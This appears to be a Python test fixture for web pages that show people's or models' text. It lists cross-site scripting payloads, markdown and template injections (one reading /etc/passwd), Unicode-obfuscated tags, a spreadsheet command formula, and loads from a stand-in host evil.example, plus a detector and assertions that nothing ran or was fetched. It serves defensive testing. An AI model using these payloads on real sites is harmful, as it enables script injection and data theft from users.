"""What people may write to make a page run it: for every page that shows text of people or of models.

None of these may become an element, run, open a dialog or fetch anything; what is shown must be the text itself. A page's test
puts each where text can come in, and then asks intruders() of the page, and `page.complaints` and `page.requested` (conftest).
"""

from __future__ import annotations

from typing import Any

INJECTIONS = (
    # elements with scripts, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\x0b>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img/src/onerror=alert`1`>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>click</a>",
    "<form action='https://evil.example/'><button>send</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<div style='background:url(https://evil.example/p)'>x</div>",
    "<template><script>alert(1)</script></template>",
    # out of an attribute, a text area, a script, a comment, a JSON document
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    '" onfocus="alert(1)" autofocus x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</div></template></main><script>alert(1)</script>",
    '\\"};alert(1);//',
    "';alert(1);'",
    "${alert(1)}",
    # addresses and markdown
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    "**<img src=x onerror=alert(1)>** and `<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "# <svg onload=alert(1)>\n\n- <img src=x onerror=alert(1)>\n1. <script>alert(1)</script>",
    "<https://evil.example/>",
    "[x]: javascript:alert(1)\n[x]",
    # templates on the server and in the browser
    "{{ 7 * 7 }} {{ config }} {% include '/etc/passwd' %}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7*7} <%= 7*7 %> @(7*7)",
    # characters that are not what they seem
    "＜script＞alert(1)＜/script＞",
    "<scrıpt>alert(1)</scrıpt>",
    "\u202e<script>alert(1)</script>\u202c",
    "<\u200bscript>alert(1)</script>",
    "x\ufeff<img src=x onerror=alert(1)>",
    "<script>alert(1)\u2028</script>\u2029",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "=cmd|' /C calc'!A0",  # what a table of figures would run, not a browser
)

# elements that no page of ours makes out of what somebody wrote, and attributes that none of ours has
INTRUDERS = (
    '() => [...document.querySelectorAll(\'script:not([src^="/assets/"]), iframe, object, embed, base, marquee, video, math, '
    'meta[http-equiv], link:not([href^="/assets/"]), img:not([src^="/assets/"]), a[href^="javascript:" i], '
    'a[href^="data:" i], a[href*="evil.example"], form[action*="evil.example"], body > style, main style, [style*="evil"]\')]'
    ".concat([...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name))))"
    ".map(e => e.outerHTML.slice(0, 120))"
)


def intruders(page: Any) -> list[str]:
    """Elements on the page that only an injection can have made."""
    found: list[str] = page.evaluate(INTRUDERS)
    return found


def harmless(page: Any, home: str) -> None:
    """Asserts that nothing ran on the page, nothing was made an element, and nothing was fetched from anywhere but `home`."""
    assert intruders(page) == []
    assert page.complaints == []  # dialogs, script errors, and what the policy had to stop
    assert [url for url in page.requested if not url.startswith(home)] == []
